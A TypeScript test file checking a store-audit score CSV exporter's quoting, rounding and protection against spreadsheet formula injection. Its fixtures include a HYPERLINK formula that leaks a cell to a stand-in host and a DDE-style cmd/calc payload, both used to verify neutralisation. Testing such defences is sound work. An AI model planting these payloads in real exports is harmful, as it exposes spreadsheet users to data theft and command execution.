import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { AuditResult } from '../../src/core/score-types.js';
import { renderScoreCsv, scoreCsvAuditLines, scoreCsvHeader, UTF8_BOM } from '../../src/format/score-csv.js';
import { failing, HOSTILE_SITE, passing } from './fixtures.js';
import { plainText } from '../../src/shared/plain-text.js';

/** RFC 4180 read back: fields split on commas outside quotes, records on CRLF outside quotes. */
function parseCsv(withMark: string): string[][] {
  expect(withMark.startsWith(UTF8_BOM)).toBe(true);
  const text = withMark.slice(UTF8_BOM.length);
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') record.push(field), (field = '');
    else if (char === '\r' && text[i + 1] === '\n') record.push(field), records.push(record), (record = []), (field = ''), i++;
    else field += char;
  }
  expect(field).toBe('');
  expect(record).toEqual([]);
  return records;
}

describe('renderScoreCsv', () => {
  const csv = renderScoreCsv([passing, failing]);
  const [header, ...rows] = parseCsv(csv);

  it('has the long-form header and one row per audit × node', () => {
    expect(header).toEqual(['file', 'site', 'auditor', 'date', 'status', 'checklist', 'level', 'id', 'value', 'score', 'expected', 'gap', 'adequate', 'msa', 'zone']);
    // passing: audit, 2 sections, 3 factors, 4 items; failing: audit, 1 section, 2 factors, 3 items.
    expect(rows).toHaveLength(10 + 7);
    expect(rows.every((row) => row.length === 15)).toBe(true);
  });

  it('quotes commas, quotes and line breaks (RFC 4180) so the site reads back intact', () => {
    const failingRows = rows.filter((row) => row[0] === failing.file);
    // Made plain first: the BEL goes, the line break stays (quoted).
    expect(failingRows.every((row) => row[1] === HOSTILE_SITE.replace('\u0007', ''))).toBe(true);
    expect(csv).toContain('"Store B, <b>Nanjing</b> | ""East""');
  });

  it('ends every record with CRLF and leaves plain fields unquoted', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')[1]).toBe('audits/store-a.yaml,Store A,Li Wei,2026-11-20,complete,shop-basics@1.0.0,audit,,,80.04,88.33,-8.29,,,');
  });

  it('names nodes by path, since factor ids repeat across sections, and gives na items no numbers', () => {
    expect(rows.filter((row) => row[0] === passing.file).map((row) => `${row[6]} ${row[7]}`)).toEqual([
      'audit ',
      'section staff',
      'factor staff/greeting',
      'item staff/greeting/greets',
      'item staff/greeting/smiles',
      'factor staff/speed',
      'item staff/speed/wait',
      'section place',
      'factor place/cleanliness',
      'item place/cleanliness/floor-clean',
    ]);
    expect(rows.find((row) => row[7] === 'staff/greeting/greets' && row[0] === failing.file)?.slice(8)).toEqual(['na', '', '', '', '', '', '']);
  });

  it('gives each item row the answer as the audit has it, and the status and auditor of every row', () => {
    const ofPassing = (id: string) => rows.find((row) => row[0] === passing.file && row[7] === id);
    expect(ofPassing('staff/greeting/smiles')?.[8]).toBe('true');
    expect(ofPassing('staff/speed/wait')?.[8]).toBe('32');
    expect(ofPassing('staff')?.[8]).toBe('');
    expect(rows.filter((row) => row[0] === failing.file).every((row) => row[2] === '王芳' && row[4] === 'draft')).toBe(true);
  });

  it('rounds numbers to two decimals, halves away from zero, never -0', () => {
    expect(rows.find((row) => row[0] === passing.file && row[6] === 'audit')?.slice(9, 12)).toEqual(['80.04', '88.33', '-8.29']);
    const [, row] = parseCsv(renderScoreCsv([{ ...passing, score: 12.500000000000014, expected: 0.005, gap: -0.004 }]));
    expect(row?.slice(9, 12)).toEqual(['12.5', '0.01', '0']);
  });

  it('is just the header when nothing was scored', () => {
    expect(renderScoreCsv([])).toBe(`${UTF8_BOM}file,site,auditor,date,status,checklist,level,id,value,score,expected,gap,adequate,msa,zone\r\n`);
  });

  it('is the header and each audit\'s lines joined, so it can be written one audit at a time', () => {
    expect(scoreCsvHeader()).toBe(`${UTF8_BOM}file,site,auditor,date,status,checklist,level,id,value,score,expected,gap,adequate,msa,zone\r\n`);
    expect(scoreCsvHeader() + scoreCsvAuditLines(passing) + scoreCsvAuditLines(failing)).toBe(csv);
    expect(scoreCsvAuditLines(passing).split('\r\n')).toHaveLength(10 + 1);
  });
});

describe('renderScoreCsv against formula injection', () => {
  const hostile: AuditResult = {
    ...passing,
    file: '-audits/=store.yaml',
    site: '=HYPERLINK("http://evil.example?"&A1,"click")',
    date: '@SUM(1+1)',
    checklist: { id: '+cmd', version: '|calc' },
  };
  const [, ...rows] = parseCsv(renderScoreCsv([hostile]));

  it('prefixes a single quote to text cells starting with = + - @ tab or CR, and still quotes them (RFC 4180)', () => {
    expect([0, 1, 3, 5].map((index) => rows[0]![index])).toEqual(['\'-audits/=store.yaml', '\'=HYPERLINK("http://evil.example?"&A1,"click")', '\'@SUM(1+1)', '\'+cmd@|calc']);
    expect(renderScoreCsv([hostile])).toContain(',"\'=HYPERLINK(""http://evil.example?""&A1,""click"")",');
    for (const start of ['=', '+', '-', '@']) {
      const [, row] = parseCsv(renderScoreCsv([{ ...passing, site: `${start}1+2` }]));
      expect(row![1]).toBe(`'${start}1+2`);
    }
  });

  it('leaves text starting elsewhere alone, and numbers (negative ones too) plain numbers', () => {
    const [, row] = parseCsv(renderScoreCsv([{ ...passing, site: ' =1', score: -12.5, expected: -0.5, gap: -12 }]));
    expect(row).toEqual(['audits/store-a.yaml', ' =1', 'Li Wei', '2026-11-20', 'complete', 'shop-basics@1.0.0', 'audit', '', '', '-12.5', '-0.5', '-12', '', '', '']);
  });

  it('quotes a cell holding a semicolon or tab, and neutralises every piece such a split would expose', () => {
    const csv = renderScoreCsv([{ ...passing, site: "Store 9;=cmd|'/C calc'!A0" }]);
    expect(csv).toContain(`,"Store 9;'=cmd|'/C calc'!A0",`);
    // Split as a semicolon-separated spreadsheet would, no cell starts a formula.
    for (const line of csv.split('\r\n')) for (const cell of line.split(/[;,]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@]/);
  });

  it('reads any site back as its plain text, no piece between separators ever starting a formula', () => {
    fc.assert(
      // No quote of its own, so that every quote in the cell is one the guard added.
      fc.property(fc.string({ unit: 'binary' }).filter((text) => !text.includes("'")), (site) => {
        const [, row] = parseCsv(renderScoreCsv([{ ...passing, site }]));
        expect(row).toHaveLength(15);
        const cell = row![1]!;
        for (const piece of cell.split(';')) expect(piece).not.toMatch(/^[=+\-@\t\r]/);
        // Taking out the quotes added in front of pieces gives back the site made plain.
        expect(cell.replace(/(^|;)'(?=[=+\-@\t\r])/g, '$1')).toBe(plainText(site));
      }),
      { numRuns: 300 },
    );
  });
});
